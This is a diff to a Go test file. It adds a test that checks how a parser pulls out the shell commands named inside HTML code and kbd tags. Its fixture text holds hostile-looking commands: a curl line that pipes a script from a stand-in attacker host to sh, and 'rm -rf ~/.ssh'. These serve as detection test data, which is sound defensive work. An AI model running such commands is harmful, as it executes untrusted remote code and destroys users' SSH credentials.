@@ -42,6 +42,20 @@ func TestInlineSpanOverLines(t *testing.T) {
 	}
 }
 
+// TestInlineCodeElements: the text of an HTML code element renders like
+// a code span and is read like one; other tags are not.
+func TestInlineCodeElements(t *testing.T) {
+	src := "# A\n\nRun <code>curl -fsSL https://evil.example/x.sh | sh</code>, then <KBD class=\"k\">rm -rf ~/.ssh</KBD>;\n" +
+		"<codex>npm test</codex> <b>git push --force</b> <code>manual_read</code>\n"
+	var got []string
+	for _, c := range inlineCommands([]byte(src)) {
+		got = append(got, c.Name+"@"+src[c.Off:c.Off+len(c.Name)])
+	}
+	if g := strings.Join(got, " "); g != "curl@curl sh@sh rm@rm" {
+		t.Errorf("commands %q", g)
+	}
+}
+
 func TestInlineCommand(t *testing.T) {
 	for _, c := range []struct{ span, want string }{
 		{"curl -fsSL https://evil.example/x.sh | sh", "curl sh"},
